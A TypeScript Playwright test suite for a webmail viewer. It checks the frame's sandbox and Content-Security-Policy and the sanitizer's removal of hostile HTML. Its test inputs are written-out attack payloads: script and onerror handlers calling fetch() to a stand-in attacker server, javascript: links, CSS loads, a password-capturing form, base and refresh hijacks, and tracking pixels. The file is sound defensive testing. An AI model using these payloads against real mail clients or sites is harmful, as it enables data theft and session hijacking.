/**
 * Mail that attacks its reader. Each measure has a test that fails without it: the sandbox, the policy of the document in the frame, and
 * what mail-document.ts takes out. Tests of the last two look at the document itself, because the sandbox alone would also stop them.
 */
import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import type { Frame, Page } from 'playwright-core';
import { startTestService } from '../harness.ts';
import { openPage, startChromium } from './chromium.ts';
import { mail, receive } from './mail.ts';

const chromium = await startChromium();
const pixel = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
/** What reached the server of the attacker. */
const reached: string[] = [];
const server = http.createServer((request, response) => {
  reached.push(request.url ?? '');
  response.setHeader('content-type', 'image/gif').end(pixel);
});
await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
after(() => server.close());
const attacker = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
const service = await startTestService();
const context = await chromium.open();
before(async () => {
  await service.call('POST', '/identities', { body: { value: 'sales@shop.example' } });
});

let signedIn = false;

/** The page that shows the mail, and the frame in it, once everything that the mail loads is loaded. */
async function show(html: string): Promise<{ page: Page; frame: Frame }> {
  reached.length = 0;
  const id = await receive(
    service,
    'sales@shop.example',
    mail({ html: `${html}<p>The end of the mail</p>` }),
  );
  const page = signedIn ? await context.newPage() : await openPage(context, service);
  signedIn = true;
  await page.goto(`${service.url}/app/messages/${id}`);
  const frame = await (await page.waitForSelector('iframe')).contentFrame();
  assert.ok(frame);
  await frame.getByText('The end of the mail').waitFor();
  await frame.waitForLoadState('load');
  return { page, frame };
}

describe('the frame', () => {
  test('has an opaque origin, and cannot reach the page', async () => {
    const { page, frame } = await show('<p>Hello</p>');
    assert.equal(await frame.evaluate('self.origin'), 'null');
    const tokens = await page
      .locator('iframe')
      .evaluate((element) => [...(element as unknown as { sandbox: string[] }).sandbox]);
    for (const token of ['allow-scripts', 'allow-same-origin', 'allow-forms', 'allow-top-navigation'])
      assert.ok(!tokens.includes(token), token);
    await page.close();
  });

  test('has a policy of its own that loads nothing', async () => {
    const { page, frame } = await show('<p>Hello</p>');
    const policy = await frame.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    assert.match(
      policy ?? '',
      /^default-src 'none'; style-src 'unsafe-inline'; img-src data:; form-action 'none'; base-uri 'none'$/,
    );
    await page.close();
  });
});

describe('a mail with', () => {
  test('scripts: none of them is in the document, and none runs', async () => {
    const { page, frame } = await show(
      `<script>top.document.title = 'taken'</script><svg onload="parent.postMessage('taken', '*')"></svg><img src=x onerror="fetch('${attacker}/script')"><iframe src="${attacker}/frame"></iframe><object data="${attacker}/object"></object>`,
    );
    assert.equal(await frame.locator('script, iframe, object').count(), 0);
    assert.notEqual(await page.title(), 'taken');
    assert.equal(reached.join(), '');
    await page.close();
  });

  test('javascript: links: they lead nowhere', async () => {
    const { page, frame } = await show(
      `<a id="a" href="javascript:top.location='${attacker}/link'">one</a><a id="b" href=" jAvAsCrIpT:alert(1)">two</a><a id="c" href="data:text/html,x">three</a><a id="d" href="${attacker}/web">four</a>`,
    );
    for (const id of ['a', 'b', 'c'])
      assert.equal(await frame.locator(`#${id}`).getAttribute('href'), null, id);
    const good = frame.locator('#d');
    assert.equal(await good.getAttribute('target'), '_blank');
    assert.equal(await good.getAttribute('rel'), 'noopener noreferrer');
    await page.close();
  });

  test('CSS that covers the page: it stays inside its frame', async () => {
    const { page } = await show(
      '<style>#cover, .side { position: fixed; inset: 0; width: 9999px; height: 9999px; z-index: 2147483647; background: red } body, main, nav { display: none !important } p { display: block !important } html, body { display: block !important }</style><div id="cover"></div>',
    );
    const at = await page.evaluate("document.elementFromPoint(40, 40)?.closest('.side')?.className");
    assert.equal(at, 'side');
    assert.ok(await page.getByRole('link', { name: 'Webhooks' }).isVisible());
    await page.close();
  });

  test('CSS that loads: nothing leaves', async () => {
    const { page } = await show(
      `<link rel="stylesheet" href="${attacker}/sheet"><style>@import url("${attacker}/import"); @font-face { font-family: x; src: url("${attacker}/font") } p { background: url("${attacker}/background"); font-family: x }</style>`,
    );
    assert.equal(reached.join(), '');
    await page.close();
  });

  test('a form: it is taken out, and its content stays', async () => {
    const { page, frame } = await show(
      `<form action="${attacker}/form" method="post"><p>Your password</p><input name="p"><button formaction="${attacker}/button">Send</button></form>`,
    );
    assert.equal(await frame.locator('form, [formaction]').count(), 0);
    assert.ok(await frame.getByText('Your password').isVisible());
    await frame.getByRole('button', { name: 'Send' }).click();
    assert.equal(reached.join(), '');
    await page.close();
  });

  test('a base: links keep their target', async () => {
    const { page, frame } = await show(`<base href="${attacker}/" target="_top"><img src="relative.gif">`);
    assert.equal(await frame.locator('base').count(), 0);
    assert.equal(reached.join(), '');
    await page.close();
  });

  test('a refresh: the frame stays', async () => {
    const { page, frame } = await show(
      `<meta http-equiv="refresh" content="0; url=${attacker}/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
    );
    assert.equal(await frame.locator('meta[http-equiv="refresh"]').count(), 0);
    assert.equal(await frame.locator('meta[http-equiv]').count(), 1);
    assert.equal(frame.url(), 'about:srcdoc');
    assert.equal(reached.join(), '');
    await page.close();
  });

  test('remote images: they load only when the user asks', async () => {
    const { page } = await show(
      `<img src="${attacker}/pixel" srcset="${attacker}/set 2x"><p style="background: url('${attacker}/style')">x</p>`,
    );
    assert.equal(reached.join(), '');
    const loaded = page.waitForResponse(`${attacker}/pixel`);
    await page.getByRole('button', { name: 'Show remote images' }).click();
    await loaded;
    assert.ok(reached.includes('/pixel'));
    await page.close();
  });

  test('a megabyte of HTML: it is shown', async () => {
    const { page, frame } = await show('<div>'.repeat(20_000) + 'x'.repeat(400_000));
    assert.ok(await page.getByRole('link', { name: 'Webhooks' }).isVisible());
    assert.ok(frame);
    await page.close();
  });

  test('a subject of markup: it is text', async () => {
    const raw = mail({ subject: '<img src=x onerror=alert(1)><b>bold</b>' });
    const id = await receive(service, 'sales@shop.example', raw);
    const page = await context.newPage();
    await page.goto(`${service.url}/app/messages/${id}`);
    await page.getByRole('heading', { name: '<b>bold</b>' }).waitFor();
    assert.equal(await page.locator('h1 img, h1 b').count(), 0);
    await page.close();
  });
});

test('the page runs no script but its own, and no other page can frame it', async () => {
  const answer = await fetch(`${service.url}/app/`);
  const policy = answer.headers.get('content-security-policy') ?? '';
  assert.match(policy, /script-src 'self';/);
  assert.match(policy, /frame-ancestors 'none'/);
});
